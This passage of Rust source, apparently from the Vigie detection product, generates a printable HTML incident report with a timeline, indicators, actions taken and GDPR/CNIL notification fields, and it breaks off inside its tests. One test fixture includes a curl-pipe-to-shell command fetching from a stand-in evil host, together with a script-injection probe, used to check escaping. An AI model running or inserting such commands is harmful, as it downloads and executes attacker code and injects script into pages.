//! The incident report: one self-contained HTML document that prints well
//! (A4, no navigation, a page break between sections, readable in black
//! and white), in the reader's language, for the people an incident must be
//! told to: a summary in plain words, the timeline (with the organisation's
//! alerts on other hosts around it, such as the VPN service's), the hosts,
//! accounts and indicators involved, the actions taken, the facts the
//! CNIL's personal-data breach notification asks for, and who to call.
//!
//! Served at `/console/incidents/{id}/report` (console session) and
//! `GET /api/v1/incidents/{id}/report` (bearer token). What Vigie cannot
//! know is marked "To complete"; an analyst fills it in at
//! `/console/incidents/{id}/notification` (saved in `incident_notes`,
//! audited), and the report shows it.
//!
//! Main types: [`Report`] ([`Report::load`] reads it, scoped to one
//! organisation; [`render`] writes it), [`FIELDS`].

use std::collections::{BTreeMap, BTreeSet};
use std::sync::LazyLock;

use axum::extract::{Path, State};
use axum::http::{HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Redirect, Response};
use axum_extra::extract::Form;
use base64::Engine as _;
use maud::{DOCTYPE, Markup, PreEscaped, html};
use serde_json::{Value, json};
use sha2::Digest;

use super::i18n::Lang;
use super::layout::{csrf, page, time};
use super::{ConsoleState, Ctx, internal, queries};
use crate::store::{AuditEntry, Store, now_ms};

/// Related activity: other hosts' alerts from this long before the first
/// alert to this long after the last.
pub const RELATED_MARGIN_MS: i64 = 3_600_000;
/// The CNIL must be notified within 72 hours (GDPR art. 33).
pub const NOTIFY_DEADLINE_MS: i64 = 72 * 3_600_000;
/// Longest value of a filled-in field.
pub const MAX_NOTE: usize = 4000;

/// The breach-notification fields a person fills in: (name, label key,
/// several lines).
pub const FIELDS: &[(&str, &str, bool)] = &[
    ("confidentiality", "rep_confidentiality", true),
    ("integrity", "rep_integrity", true),
    ("availability", "rep_availability", true),
    ("breach_end", "rep_ended", false),
    ("persons_categories", "rep_persons_categories", true),
    ("persons_count", "rep_persons_count", false),
    ("data_categories", "rep_data_categories", true),
    ("records_count", "rep_records_count", false),
    ("consequences", "rep_consequences", true),
    ("other_measures", "rep_other_measures", true),
    ("measures_planned", "rep_measures_planned", true),
    ("inform", "rep_inform", true),
    ("dpo", "rep_dpo", true),
];

/// The report's style sheet, inlined so a downloaded report is complete on
/// its own; the response's CSP allows exactly this text by its hash.
const CSS: &str = include_str!("../../assets/report.css");

static CSP: LazyLock<String> = LazyLock::new(|| {
    let hash = base64::engine::general_purpose::STANDARD.encode(sha2::Sha256::digest(CSS));
    format!(
        "default-src 'none'; style-src 'sha256-{hash}'; img-src data:; form-action 'none'; frame-ancestors 'none'; base-uri 'none'"
    )
});

/// Everything the report shows, read from the store for one organisation.
#[derive(Debug, Clone, Default)]
pub struct Report {
    /// As `queries::incident` returns it.
    pub incident: Value,
    /// The incident's alerts (summary, ECS document), oldest first.
    pub alerts: Vec<(Value, Value)>,
    /// Other hosts' alerts around the incident (summary with hostname, doc).
    pub related: Vec<(Value, Value)>,
    /// Audit entries about the incident, oldest first.
    pub audit: Vec<Value>,
    /// Facts of the hosts involved, the incident's host first.
    pub hosts: Vec<Value>,
    /// What a person filled in (field name → text).
    pub notes: BTreeMap<String, String>,
    pub generated_at: i64,
    pub generated_by: String,
}

fn s<'a>(v: &'a Value, k: &str) -> &'a str {
    v[k].as_str().unwrap_or_default()
}

impl Report {
    /// The report of incident `id` of `org`; None when the organisation has
    /// no such incident (another organisation's id included).
    pub async fn load(
        store: &Store,
        org: &str,
        id: &str,
        by: &str,
    ) -> anyhow::Result<Option<Report>> {
        let Some(incident) = queries::incident(store, org, id).await? else {
            return Ok(None);
        };
        let host = s(&incident, "host_id").to_string();
        let first = incident["first_time"].as_i64().unwrap_or(0);
        let last = incident["last_time"].as_i64().unwrap_or(first);
        let alerts = queries::incident_alerts(store, org, id).await?;
        let related = queries::related_alerts(
            store,
            org,
            &host,
            first - RELATED_MARGIN_MS,
            last + RELATED_MARGIN_MS,
            500,
        )
        .await?;
        let audit =
            queries::incident_audit(store, org, id, &host, first - RELATED_MARGIN_MS).await?;
        let mut ids = vec![host.clone()];
        for (a, _) in &related {
            let h = s(a, "host_id");
            if !ids.iter().any(|i| i == h) && ids.len() < 50 {
                ids.push(h.to_string());
            }
        }
        let mut hosts = Vec::new();
        for h in &ids {
            hosts.push(
                store
                    .get_host(org, h)
                    .await?
                    .unwrap_or_else(|| json!({"id": h, "hostname": h})),
            );
        }
        let notes = queries::incident_notes(store, org, id).await?;
        Ok(Some(Report {
            incident,
            alerts,
            related,
            audit,
            hosts,
            notes,
            generated_at: now_ms(),
            generated_by: by.to_string(),
        }))
    }

    fn host_id(&self) -> &str {
        s(&self.incident, "host_id")
    }

    fn hostname_of<'a>(&'a self, id: &'a str) -> &'a str {
        self.hosts
            .iter()
            .find(|h| s(h, "id") == id)
            .and_then(|h| h["hostname"].as_str())
            .filter(|n| !n.is_empty())
            .unwrap_or(id)
    }

    fn first(&self) -> i64 {
        self.incident["first_time"].as_i64().unwrap_or(0)
    }

    /// Every ECS event of the incident's and the related alerts.
    fn events(&self) -> impl Iterator<Item = &Value> {
        self.alerts
            .iter()
            .chain(&self.related)
            .flat_map(|(_, d)| d["vigie"]["events"].as_array().into_iter().flatten())
    }

    /// Ransomware behaviour seen: Vigie's detectors tag it with ATT&CK
    /// T1486 (data encrypted for impact) or T1490 (inhibit recovery).
    fn ransomware(&self) -> bool {
        self.alerts.iter().any(|(_, d)| {
            d["rule"]["attack"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|t| matches!(t.as_str(), Some("T1486" | "T1490" | "T1485")))
        })
    }

    /// Actions on hosts (not alert triage nor notes), oldest first.
    fn host_actions(&self) -> Vec<&Value> {
        let host = self.host_id();
        let agent = format!("agent:{host}/");
        self.audit
            .iter()
            .filter(|a| s(a, "target") == host || s(a, "actor").starts_with(&agent))
            .collect()
    }

    /// The verified actions (not the requests, nor the agent's enrolment),
    /// for the summary and the measures taken.
    fn done(&self) -> Vec<&Value> {
        self.host_actions()
            .into_iter()
            .filter(|a| !s(a, "action").ends_with("_requested") && s(a, "action") != "enroll")
            .collect()
    }

    fn isolated_now(&self) -> bool {
        self.hosts
            .first()
            .is_some_and(|h| h["isolated"] == json!(true))
    }
}

/// When an action happened: the agent's own time for its automatic
/// actions (the audit entry is written when the manager receives it).
fn action_time(a: &Value) -> i64 {
    a["details"]["@timestamp"]
        .as_str()
        .and_then(|t| chrono::DateTime::parse_from_rfc3339(t).ok())
        .map(|t| t.timestamp_millis())
        .unwrap_or_else(|| a["time"].as_i64().unwrap_or(0))
}

/// Replace `{name}` placeholders of a translated template.
fn fill(template: &str, values: &[(&str, &str)]) -> String {
    let mut out = template.to_string();
    for (k, v) in values {
        out = out.replace(&format!("{{{k}}}"), v);
    }
    out
}

/// What the timeline shows of an alert: level, rule, process and command
/// line, user.
struct AlertLine<'a> {
    time: i64,
    host: &'a str,
    level: &'a str,
    rule: &'a str,
    process: String,
    command_line: String,
    user: String,
}

fn alert_line<'a>(a: &'a Value, doc: &'a Value, host: &'a str) -> AlertLine<'a> {
    let ev = &doc["vigie"]["events"][0];
    let p = &ev["process"];
    let process = p["executable"]
        .as_str()
        .filter(|e| !e.is_empty())
        .or(p["name"].as_str())
        .unwrap_or_default();
    let pid = p["pid"].as_u64().filter(|p| *p > 0);
    let user = ev["user"]["name"]
        .as_str()
        .or(p["user"]["name"].as_str())
        .or(ev["user"]["id"].as_str())
        .unwrap_or_default();
    let source = ev["source"]["ip"].as_str().unwrap_or_default();
    let user = if ev["event"]["dataset"] == "vigie.authentication" && !source.is_empty() {
        format!("{user} ({source})")
    } else {
        user.to_string()
    };
    AlertLine {
        time: a["time"].as_i64().unwrap_or(0),
        host,
        level: s(a, "level"),
        rule: s(a, "rule_name"),
        process: match pid {
            Some(pid) if !process.is_empty() => format!("{process} (pid {pid})"),
            _ => process.to_string(),
        },
        command_line: p["command_line"].as_str().unwrap_or_default().to_string(),
        user,
    }
}

enum Row<'a> {
    Alert(AlertLine<'a>, bool),
    Action(&'a Value),
}

impl Row<'_> {
    fn time(&self) -> i64 {
        match self {
            Row::Alert(a, _) => a.time,
            Row::Action(a) => action_time(a),
        }
    }
}

/// Indicators found in the events, deduplicated and sorted.
#[derive(Default)]
struct Indicators {
    /// executable → SHA-256 when recorded.
    executables: BTreeMap<String, Option<String>>,
    remote: BTreeSet<String>,
    domains: BTreeSet<String>,
    files: BTreeSet<String>,
    /// account → kinds ("local", "vpn") and where seen.
    accounts: BTreeMap<String, (BTreeSet<&'static str>, BTreeSet<String>)>,
}

fn endpoint(e: &Value) -> Option<String> {
    let ip = e["ip"].as_str()?;
    Some(match e["port"].as_u64() {
        Some(p) if ip.contains(':') => format!("[{ip}]:{p}"),
        Some(p) => format!("{ip}:{p}"),
        None => ip.to_string(),
    })
}

fn indicators(r: &Report) -> Indicators {
    let mut ind = Indicators::default();
    for ev in r.events() {
        let host = ev["host"]["id"]
            .as_str()
            .map(|h| r.hostname_of(h).to_string())
            .or_else(|| ev["host"]["name"].as_str().map(String::from))
            .unwrap_or_default();
        let dataset = ev["event"]["dataset"].as_str().unwrap_or_default();
        let p = &ev["process"];
        for proc in [p, &p["parent"]] {
            if let Some(exe) = proc["executable"].as_str().filter(|e| !e.is_empty()) {
                let sha = proc["hash"]["sha256"].as_str().map(String::from);
                let slot = ind.executables.entry(exe.to_string()).or_default();
                if slot.is_none() {
                    *slot = sha;
                }
            }
        }
        match dataset {
            "vigie.network" => {
                // connect: the remote side is the destination; accept: the source.
                let remote = if ev["network"]["direction"] == "ingress" {
                    &ev["source"]
                } else {
                    &ev["destination"]
                };
                ind.remote.extend(endpoint(remote));
                if let Some(d) = ev["destination"]["domain"].as_str() {
                    ind.domains.insert(d.to_string());
                }
            }
            "vigie.dns" => {
                if let Some(d) = ev["dns"]["question"]["name"]
                    .as_str()
                    .filter(|d| !d.is_empty())
                {
                    ind.domains.insert(d.trim_end_matches('.').to_string());
                }
            }
            "vigie.file" => {
                if let Some(f) = ev["file"]["path"].as_str().filter(|f| !f.is_empty()) {
                    ind.files.insert(f.to_string());
                }
                if let Some(f) = ev["file"]["vigie"]["original_path"].as_str() {
                    ind.files.insert(f.to_string());
                }
            }
            "vigie.authentication" => {
                ind.remote.extend(endpoint(&ev["source"]));
            }
            _ => {}
        }
        let kind = if dataset == "vigie.authentication" {
            if ev["vigie"]["auth"]["service"] == "vpn" {
                "vpn"
            } else {
                "other"
            }
        } else {
            "local"
        };
        let names = [
            ev["user"]["name"].as_str(),
            p["user"]["name"].as_str(),
            p["parent"]["user"]["name"].as_str(),
        ];
        for name in names.into_iter().flatten().filter(|n| !n.is_empty()) {
            let slot = ind.accounts.entry(name.to_string()).or_default();
            slot.0.insert(kind);
            if !host.is_empty() {
                slot.1.insert(host.clone());
            }
        }
    }
    ind
}

/// A field a person must fill in: what they wrote, else a visible "To
/// complete" mark (with what Vigie knows, when it knows something).
fn todo(l: Lang, r: &Report, field: &str, hint: Option<&str>) -> Markup {
    html! {
        @if let Some(v) = r.notes.get(field) {
            span.filled { (v) }
        } @else {
            strong.todo { "☐ " (l.t("rep_to_complete")) }
            @if let Some(h) = hint { " " span.hint { (h) } }
        }
    }
}

/// One side of the breach's nature: what Vigie knows, then what a person
/// wrote; when Vigie knows nothing, "to be assessed" and the mark.
fn assessed(l: Lang, r: &Report, field: &str, known: &[&'static str]) -> Markup {
    html! {
        @for k in known { span.known { (l.t(k)) } " " }
        @if known.is_empty() && !r.notes.contains_key(field) { span.known { (l.t("rep_to_assess")) } " " }
        @if known.is_empty() {
            (todo(l, r, field, None))
        } @else if let Some(v) = r.notes.get(field) {
            span.filled { (v) }
        }
    }
}

fn status_label(l: Lang, status: &str) -> String {
    match status {
        "open" => l.t("rep_open").to_string(),
        "closed" => l.t("closed").to_string(),
        other => other.to_string(),
    }
}

/// The report as a complete HTML document.
pub fn render(l: Lang, r: &Report) -> String {
    let inc = &r.incident;
    let id = s(inc, "id");
    let host_id = r.host_id();
    let hostname = r.hostname_of(host_id);
    let first = r.first();
    let last = inc["last_time"].as_i64().unwrap_or(first);
    let worst = r
        .alerts
        .iter()
        .max_by_key(|(a, _)| {
            s(a, "level")
                .parse::<vigie_event::Level>()
                .map(|l| l.severity())
                .unwrap_or(0)
        })
        .map(|(a, _)| a);
    let mut rows: Vec<Row> = Vec::new();
    for (a, d) in &r.alerts {
        rows.push(Row::Alert(alert_line(a, d, hostname), false));
    }
    for (a, d) in &r.related {
        let h = a["hostname"]
            .as_str()
            .filter(|n| !n.is_empty())
            .unwrap_or(s(a, "host_id"));
        rows.push(Row::Alert(alert_line(a, d, h), true));
    }
    for a in r.host_actions() {
        rows.push(Row::Action(a));
    }
    rows.sort_by_key(Row::time);
    let done = r.done();
    let ind = indicators(r);
    let ransomware = r.ransomware();
    let isolated_ever = done.iter().any(|a| {
        s(a, "action") == "isolate"
            && (s(a, "outcome").starts_with("succeeded") || s(a, "outcome") == "success")
    });
    let mut techniques = BTreeSet::new();
    let mut rules = BTreeSet::new();
    for (a, d) in &r.alerts {
        rules.insert(s(a, "rule_name").to_string());
        for t in d["rule"]["attack"].as_array().into_iter().flatten() {
            techniques.insert(t.as_str().unwrap_or_default().to_string());
        }
    }
    let list = |set: &BTreeSet<String>| {
        set.iter()
            .map(|x| format!("\u{201c}{x}\u{201d}"))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let host_names: Vec<&str> = r.hosts.iter().map(|h| r.hostname_of(s(h, "id"))).collect();
    let title = format!("{} — {}", l.t("report"), s(inc, "title"));
    let what = fill(
        l.t("rep_what"),
        &[
            ("n", &r.alerts.len().to_string()),
            ("host", hostname),
            ("first", &time(first)),
            ("last", &time(last)),
            ("rule", worst.map(|a| s(a, "rule_name")).unwrap_or_default()),
            ("level", worst.map(|a| s(a, "level")).unwrap_or_default()),
        ],
    );
    let action_cells = |a: &Value| {
        html! {
            td { (s(a, "action")) }
            td { (s(a, "actor")) @if !s(a, "reason").is_empty() { br; span.muted { (s(a, "reason")) } } }
            td { (s(a, "outcome")) }
        }
    };
    let deadline = first + NOTIFY_DEADLINE_MS;
    html! {
        (DOCTYPE)
        html lang=(l.code()) {
            head {
                meta charset="utf-8";
                meta name="viewport" content="width=device-width, initial-scale=1";
                title { (title) }
                style { (PreEscaped(CSS)) }
            }
            body {
                nav.no-print {
                    a href={ "/console/incidents/" (id) } { "← " (l.t("rep_back")) } " · "
                    a href={ "/console/incidents/" (id) "/notification" } { (l.t("rep_complete_link")) }
                    p.muted { (l.t("rep_print_hint")) }
                }
                header {
                    p.brand { "Vigie" }
                    h1 { (title) }
                    p.meta { (fill(l.t("rep_generated"), &[("time", &time(r.generated_at)), ("who", &r.generated_by)])) }
                    p.meta { (l.t("incident")) " " code { (id) } }
                }
                section.part #summary aria-labelledby="h-summary" {
                    h2 #h-summary { (l.t("rep_summary")) }
                    p.summary { (what) }
                    p { (fill(l.t("rep_where"), &[("hosts", &host_names.join(", "))])) }
                    @if !r.related.is_empty() {
                        p { (fill(l.t("rep_related_count"), &[("n", &r.related.len().to_string())])) }
                    }
                    p { (fill(l.t("rep_status"), &[
                        ("status", &status_label(l, s(inc, "status"))),
                        ("isolation", if r.isolated_now() { l.t("isolated") } else { l.t("not_isolated") }),
                    ])) }
                    h3 { (l.t("what_vigie_did")) }
                    @if done.is_empty() {
                        p { (l.t("nothing_done")) }
                    } @else {
                        ul { @for a in &done {
                            li { (time(action_time(a))) " — " strong { (s(a, "action")) } " (" (s(a, "actor")) "): " (s(a, "outcome")) }
                        } }
                    }
                }
                section.part #timeline aria-labelledby="h-timeline" {
                    h2 #h-timeline { (l.t("rep_timeline")) }
                    p.muted { (l.t("rep_timeline_help")) }
                    table.timeline {
                        thead { tr {
                            th scope="col" { (l.t("time")) } th scope="col" { (l.t("host")) }
                            th scope="col" { (l.t("rep_entry")) } th scope="col" { (l.t("rep_details")) } th scope="col" { (l.t("user")) }
                        } }
                        tbody {
                            @for row in &rows {
                                @match row {
                                    Row::Alert(a, related) => {
                                        tr.alert.related[*related] {
                                            td.time { (time(a.time)) }
                                            td { (a.host) @if *related { br; span.tag { (l.t("rep_related")) } } }
                                            td { span.lvl { (a.level) } " " strong { (a.rule) } }
                                            td { (a.process) @if !a.command_line.is_empty() { br; code.cmd { (a.command_line) } } }
                                            td { (a.user) }
                                        }
                                    }
                                    Row::Action(a) => {
                                        tr.action {
                                            td.time { (time(action_time(a))) }
                                            td { (hostname) }
                                            td { span.tag { (l.t("action")) } " " strong { (s(a, "action")) } }
                                            td { (s(a, "actor")) ": " (s(a, "outcome")) @if !s(a, "reason").is_empty() { br; span.muted { (s(a, "reason")) } } }
                                            td {}
                                        }
                                    }
                                }
                            }
                            @if rows.is_empty() { tr { td colspan="5" { (l.t("none")) } } }
                        }
                    }
                }
                section.part #involved aria-labelledby="h-involved" {
                    h2 #h-involved { (l.t("rep_involved")) }
                    h3 { (l.t("rep_hosts")) }
                    table {
                        thead { tr { th scope="col" { (l.t("hostname")) } th scope="col" { (l.t("addresses")) } th scope="col" { (l.t("os")) } th scope="col" { (l.t("isolated")) } } }
                        tbody { @for h in &r.hosts {
                            tr {
                                td { (r.hostname_of(s(h, "id"))) br; code.muted { (s(h, "id")) } }
                                td { @for a in h["addresses"].as_array().into_iter().flatten() { (a.as_str().unwrap_or_default()) " " } }
                                td { (s(h, "os")) " " (s(h, "kernel")) }
                                td { @if h["isolated"] == json!(true) { strong { (l.t("isolated")) } } @else { (l.t("not_isolated")) } }
                            }
                        } }
                    }
                    h3 { (l.t("rep_accounts")) }
                    table {
                        thead { tr { th scope="col" { (l.t("username")) } th scope="col" { (l.t("rep_account_kind")) } th scope="col" { (l.t("rep_seen_on")) } } }
                        tbody {
                            @for (name, (kinds, seen)) in &ind.accounts {
                                tr { td { code { (name) } }
                                     td { @for (i, k) in kinds.iter().enumerate() { @if i > 0 { ", " } (match *k { "vpn" => l.t("rep_vpn_account"), "local" => l.t("rep_local_account"), _ => l.t("rep_other_account") }) } }
                                     td { (seen.iter().cloned().collect::<Vec<_>>().join(", ")) } }
                            }
                            @if ind.accounts.is_empty() { tr { td colspan="3" { (l.t("none")) } } }
                        }
                    }
                    h3 { (l.t("rep_indicators")) }
                    h4 { (l.t("rep_executables")) }
                    ul.ioc { @for (exe, sha) in &ind.executables {
                        li { code { (exe) } " — " @match sha { Some(h) => code { (h) }, None => span.muted { (l.t("rep_sha_unknown")) } } }
                    } @if ind.executables.is_empty() { li { (l.t("none")) } } }
                    h4 { (l.t("rep_remote")) }
                    ul.ioc { @for x in &ind.remote { li { code { (x) } } } @if ind.remote.is_empty() { li { (l.t("none")) } } }
                    h4 { (l.t("rep_domains")) }
                    ul.ioc { @for x in &ind.domains { li { code { (x) } } } @if ind.domains.is_empty() { li { (l.t("none")) } } }
                    h4 { (l.t("rep_files")) }
                    ul.ioc { @for x in &ind.files { li { code { (x) } } } @if ind.files.is_empty() { li { (l.t("none")) } } }
                }
                section.part #actions aria-labelledby="h-actions" {
                    h2 #h-actions { (l.t("rep_actions")) }
                    p.muted { (l.t("rep_actions_help")) }
                    table {
                        thead { tr { th scope="col" { (l.t("time")) } th scope="col" { (l.t("target")) } th scope="col" { (l.t("action")) } th scope="col" { (l.t("actor")) } th scope="col" { (l.t("outcome")) } } }
                        tbody {
                            @for a in &r.audit {
                                tr { td.time { (time(action_time(a))) } td { (if s(a, "target") == host_id { hostname } else { s(a, "target") }) } (action_cells(a)) }
                            }
                            @if r.audit.is_empty() { tr { td colspan="5" { (l.t("none")) } } }
                        }
                    }
                }
                section.part #cnil aria-labelledby="h-cnil" {
                    h2 #h-cnil { (l.t("rep_cnil")) }
                    p { (l.t("rep_cnil_intro")) }
                    p.deadline #deadline { strong { (l.t("rep_deadline")) ": " (time(deadline)) } br; (l.t("rep_deadline_late")) }
                    dl.cnil {
                        dt #cnil-nature { (l.t("rep_nature")) }
                        dd {
                            ul {
                                li { strong { (l.t("rep_confidentiality")) } ": " (assessed(l, r, "confidentiality", &[])) }
                                li { strong { (l.t("rep_integrity")) } ": " (assessed(l, r, "integrity", if ransomware { &["rep_yes_ransomware"] } else { &[] })) }
                                li { strong { (l.t("rep_availability")) } ": " (assessed(l, r, "availability", match (ransomware, isolated_ever) {
                                    (true, true) => &["rep_yes_ransomware", "rep_yes_isolated"],
                                    (true, false) => &["rep_yes_ransomware"],
                                    (false, true) => &["rep_yes_isolated"],
                                    (false, false) => &[],
                                })) }
                            }
                        }
                        dt #cnil-circumstances { (l.t("rep_circumstances")) }
                        dd { span.known { (fill(l.t("rep_circ_prefill"), &[("rules", &list(&rules)), ("attack", &techniques.iter().cloned().collect::<Vec<_>>().join(", "))])) } }
                        dt #cnil-dates { (l.t("rep_dates")) }
                        dd { ul {
                            li { (l.t("rep_started")) ": " span.known { (time(first)) } }
                            li { (l.t("rep_discovered")) ": " span.known { (time(first)) } }
                            li { (l.t("rep_ended")) ": " (todo(l, r, "breach_end", None)) }
                        } }
                        dt #cnil-persons { (l.t("rep_persons_categories")) }
                        dd { (todo(l, r, "persons_categories", None)) }
                        dt #cnil-persons-count { (l.t("rep_persons_count")) }
                        dd { (todo(l, r, "persons_count", None)) }
                        dt #cnil-data { (l.t("rep_data_categories")) }
                        dd { (todo(l, r, "data_categories", None)) }
                        dt #cnil-records { (l.t("rep_records_count")) }
                        dd { (todo(l, r, "records_count", (!ind.files.is_empty()).then(|| fill(l.t("rep_files_touched"), &[("n", &ind.files.len().to_string())])).as_deref())) }
                        dt #cnil-consequences { (l.t("rep_consequences")) }
                        dd {
                            @if ransomware { p.known { (l.t("rep_conseq_availability")) } }
                            p.known { (l.t("rep_conseq_confidentiality")) }
                            (todo(l, r, "consequences", None))
                        }
                        dt #cnil-measures-taken { (l.t("rep_measures_taken")) }
                        dd {
                            @if done.is_empty() { p { (l.t("nothing_done")) } } @else {
                                ul { @for a in &done { li.known { (time(action_time(a))) " — " (s(a, "action")) " (" (s(a, "actor")) "): " (s(a, "outcome")) } } }
                            }
                            p { (l.t("rep_other_measures")) ": " (todo(l, r, "other_measures", None)) }
                        }
                        dt #cnil-measures-planned { (l.t("rep_measures_planned")) }
                        dd { (todo(l, r, "measures_planned", None)) }
                        dt #cnil-inform { (l.t("rep_inform")) }
                        dd { (todo(l, r, "inform", None)) }
                        dt #cnil-dpo { (l.t("rep_dpo")) }
                        dd { (todo(l, r, "dpo", None)) }
                    }
                }
                section.part #contacts aria-labelledby="h-contacts" {
                    h2 #h-contacts { (l.t("rep_contacts")) }
                    ul.contacts {
                        li { (l.t("rep_call_certfr")) br; a href="https://www.cert.ssi.gouv.fr/" { "https://www.cert.ssi.gouv.fr/" } }
                        li { (l.t("rep_call_csirt")) }
                        li { (l.t("rep_call_police")) }
                        li { (l.t("rep_call_cnil")) br; a href="https://www.cnil.fr/" { "https://www.cnil.fr/" } }
                        li { (l.t("rep_call_cybermalveillance")) br; a href="https://www.cybermalveillance.gouv.fr/" { "https://www.cybermalveillance.gouv.fr/" } }
                    }
                }
            }
        }
    }
    .into_string()
}

/// The HTTP response for a rendered report: HTML with a CSP that allows
/// only its own inline style sheet.
pub fn respond(html: String, id: &str) -> Response {
    let mut resp = (
        [
            (header::CONTENT_TYPE, "text/html; charset=utf-8".to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!(
                    "inline; filename=\"incident-{}.html\"",
                    id.replace(|c: char| !c.is_ascii_alphanumeric() && c != '-', "")
                ),
            ),
        ],
        html,
    )
        .into_response();
    if let Ok(v) = HeaderValue::from_str(&CSP) {
        resp.headers_mut()
            .insert(header::CONTENT_SECURITY_POLICY, v);
    }
    resp
}

type Page = Result<Response, Response>;

/// GET /console/incidents/{id}/report (any role: read-only users read it).
pub async fn incident_report(
    State(st): State<ConsoleState>,
    ctx: Ctx,
    Path(id): Path<String>,
) -> Page {
    let l = ctx.lang;
    match Report::load(
        &st.core.store,
        &ctx.session.org,
        &id,
        &ctx.principal().actor,
    )
    .await
    {
        Ok(Some(r)) => Ok(respond(render(l, &r), &id)),
        Ok(None) => Err(ctx.error(StatusCode::NOT_FOUND, "not_found")),
        Err(e) => Err(internal(l, format!("{e:#}"))),
    }
}

/// GET /console/incidents/{id}/notification: the fields a person fills in.
pub async fn notes_form(
    State(st): State<ConsoleState>,
    ctx: Ctx,
    Path(id): Path<String>,
    axum::extract::Query(m): axum::extract::Query<super::pages::Msg>,
) -> Page {
    let l = ctx.lang;
    let org = &ctx.session.org;
    let store = &st.core.store;
    let Some(inc) = queries::incident(store, org, &id)
        .await
        .map_err(|e| internal(l, format!("{e:#}")))?
    else {
        return Err(ctx.error(StatusCode::NOT_FOUND, "not_found"));
    };
    let notes = queries::incident_notes(store, org, &id)
        .await
        .map_err(|e| internal(l, format!("{e:#}")))?;
    let edit = ctx.can("analyst");
    let content = html! {
        (super::layout::flash(l, m.msg.as_deref()))
        p.meta { a href={ "/console/incidents/" (id) } { (s(&inc, "title")) } " · "
            a href={ "/console/incidents/" (id) "/report" } { (l.t("rep_link")) } }
        p { (l.t("rep_notes_help")) }
        @if !edit { p.muted { (l.t("forbidden")) } }
        form #notes method="post" action={ "/console/incidents/" (id) "/notification" } {
            (csrf(&ctx))
            @for (name, key, multi) in FIELDS {
                @let v = notes.get(*name).map(String::as_str).unwrap_or_default();
                p { label for={ "note-" (name) } { (l.t(key)) } br;
                    @if *multi {
                        textarea id={ "note-" (name) } name=(name) rows="3" cols="70" maxlength=(MAX_NOTE) disabled[!edit] { (v) }
                    } @else {
                        input id={ "note-" (name) } name=(name) size="50" maxlength=(MAX_NOTE) value=(v) disabled[!edit];
                    }
                }
            }
            @if edit { p { button type="submit" { (l.t("save")) } } }
        }
    };
    Ok(page(&ctx, l.t("rep_notes_title"), "/console/incidents", content).into_response())
}

/// POST /console/incidents/{id}/notification (analyst): saves the fields
/// that changed, each save in the audit log.
pub async fn notes_save(
    State(st): State<ConsoleState>,
    ctx: Ctx,
    Path(id): Path<String>,
    Form(f): Form<BTreeMap<String, String>>,
) -> Page {
    ctx.check_csrf(f.get("csrf").map(String::as_str).unwrap_or_default())?;
    ctx.require("analyst")?;
    let l = ctx.lang;
    let ie = |e: anyhow::Error| internal(l, format!("{e:#}"));
    let org = &ctx.session.org;
    let store = &st.core.store;
    if queries::incident(store, org, &id)
        .await
        .map_err(ie)?
        .is_none()
    {
        return Err(ctx.error(StatusCode::NOT_FOUND, "not_found"));
    }
    for k in f.keys() {
        if k != "csrf" && !FIELDS.iter().any(|(n, _, _)| n == k) {
            return Err(ctx.error(StatusCode::BAD_REQUEST, "error"));
        }
    }
    let old = queries::incident_notes(store, org, &id).await.map_err(ie)?;
    let actor = ctx.principal().actor;
    for (name, _, _) in FIELDS {
        let Some(v) = f.get(*name) else { continue };
        let v = v.replace("\r\n", "\n");
        let v = v.trim();
        if v.chars().count() > MAX_NOTE {
            return Err(ctx.error(StatusCode::BAD_REQUEST, "error"));
        }
        if old.get(*name).map(String::as_str).unwrap_or_default() == v {
            continue;
        }
        queries::set_incident_note(store, org, &id, name, v, &actor)
            .await
            .map_err(ie)?;
        store
            .append_audit(&AuditEntry {
                org: org.clone(),
                actor: actor.clone(),
                action: "incident_note".into(),
                target: id.clone(),
                reason: name.to_string(),
                outcome: if v.is_empty() { "cleared" } else { "saved" }.into(),
                details: json!({"field": name, "value": v, "via": "console"}),
            })
            .await
            .map_err(ie)?;
    }
    Ok(Redirect::to(&format!("/console/incidents/{id}/notification?msg=updated")).into_response())
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{TimeZone, Utc};
    use vigie_event::{
        Alert, AuthDetails, AuthEvent, Dns, DnsEvent, DnsQuestion, Endpoint, Event, File,
        FileAction, FileEvent, Hash, Host, Level, NetworkAction, NetworkEvent, Outcome, Payload,
        Process, ProcessAction, ProcessEvent, RuleRef, Transport, User,
    };

    const T0: i64 = 1_790_000_000_000;

    fn at(ms: i64) -> chrono::DateTime<Utc> {
        Utc.timestamp_millis_opt(ms).unwrap()
    }

    fn proc(exe: &str, cmd: &str, user: &str) -> Process {
        Process {
            entity_id: format!("e-{cmd}"),
            pid: 4242,
            name: exe.rsplit('/').next().unwrap().into(),
            executable: exe.into(),
            command_line: cmd.into(),
            hash: Hash {
                sha256: Some("ab".repeat(32)),
            },
            user: Some(User {
                name: Some(user.into()),
                ..User::default()
            }),
            ..Process::default()
        }
    }

    fn ev(ms: i64, host: &str, payload: Payload) -> Event {
        let mut e = Event::new(at(ms), Host::named(host), payload);
        e.host.id = Some(host.into());
        e
    }

    fn alert(ms: i64, name: &str, level: Level, attack: &[&str], events: Vec<Event>) -> Value {
        let a = Alert {
            id: uuid::Uuid::now_v7(),
            time: at(ms),
            host: events[0].host.clone(),
            rule: RuleRef {
                id: format!("rule-{name}"),
                name: name.into(),
                level: Some(level),
                attack: attack.iter().map(|t| t.to_string()).collect(),
                ..RuleRef::default()
            },
            events,
        };
        serde_json::to_value(&a).unwrap()
    }

    fn summary(doc: &Value, ms: i64, hostname: Option<&str>) -> Value {
        json!({"id": doc["event"]["id"], "time": ms, "rule_name": doc["rule"]["name"],
            "level": doc["rule"]["level"], "status": "new", "host_id": doc["host"]["id"],
            "hostname": hostname})
    }

    /// An incident on the file server (a download-and-execute whose command
    /// line carries markup, then ransomware), the VPN service's brute-force
    /// alert an hour earlier, and the agent's kill and a manual isolation.
    fn sample() -> Report {
        let exec = ev(
            T0,
            "fs-1",
            Payload::Process(ProcessEvent {
                action: ProcessAction::Exec,
                process: proc(
                    "/tmp/dropper",
                    "sh -c 'curl http://evil.example/x | sh' <script>alert(1)</script>",
                    "www-data",
                ),
                target: None,
                error: None,
            }),
        );
        let connect = ev(
            T0 + 1000,
            "fs-1",
            Payload::Network(NetworkEvent {
                action: NetworkAction::Connect,
                transport: Transport::Tcp,
                source: Endpoint {
